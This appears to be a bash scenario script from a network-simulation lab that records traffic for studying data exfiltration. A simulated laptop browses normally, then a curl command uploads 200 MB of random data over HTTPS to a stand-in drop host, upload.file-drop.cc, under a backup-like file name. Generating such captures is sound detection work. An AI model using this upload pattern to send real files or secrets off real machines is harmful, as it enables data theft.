# Attack: exfiltration. After a baseline of small traffic (browsing, lookups, NTP), the
# laptop suddenly uploads 200 MB over HTTPS to one internet host (at 25 MB/s), then goes
# back to small traffic. The upload's full-size packets are recorded cut to 128 bytes
# (headers intact, wire length kept) so the capture stays small.
DESCRIPTION="baseline small traffic, then a 200 MB HTTPS upload to upload.file-drop.cc"
TRUNCATE_FILTER="tcp and host $DROP_IP and greater 1000"
TRUNCATE_SNAPLEN=128

baseline() { # SECONDS
    local end=$((SECONDS + $1)) sites=(https://www.wikipedia.org/ https://github.com/
        http://www.debian.org/ https://news.ycombinator.com/)
    while [ $SECONDS -lt $end ]; do
        browse laptop "${sites[RANDOM % ${#sites[@]}]}"
        [ $((RANDOM % 4)) -eq 0 ] && { nsx laptop ntpdig -t 2 0.debian.pool.ntp.org >/dev/null 2>&1 || true; }
        jsleep_until "$end" 3 1.5
    done
}

scenario() {
    local before=${NG_BASELINE_SECONDS:-40}
    [ "${NG_FAST:-0}" = 1 ] && before=15
    baseline "$before"
    head -c 200000000 /dev/urandom |
        nsx laptop curl -s -o /dev/null --max-time 120 --cacert "$STATE/ca.crt" --limit-rate 25M \
            -T - https://upload.file-drop.cc/upload/backup-2024.tar.gz
    baseline 10
}
